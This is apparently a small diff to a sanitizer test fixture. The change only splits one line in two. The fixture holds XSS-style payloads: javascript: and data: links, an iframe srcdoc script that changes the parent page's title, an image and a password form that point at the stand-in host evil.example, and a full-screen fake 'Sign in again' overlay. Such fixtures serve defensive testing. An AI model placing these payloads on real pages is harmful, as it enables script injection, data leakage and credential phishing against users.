@@ -24,7 +24,8 @@ $$\\href{javascript:document.title='PWNED'}{x} = \\frac{a}{b}$$
 
 [a link](javascript:document.title='PWNED'), [another](data:text/html,PWNED), ![a picture](http://evil.example/leak.png)
 
-<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe><form action="http://evil.example"><input name="password"></form>
+<iframe srcdoc="<script>parent.document.title='PWNED'</script>"></iframe>
+<form action="http://evil.example"><input name="password"></form>
 
 <p style="position: fixed; inset: 0" id="main" class="toast error">Sign in again</p>
 `;
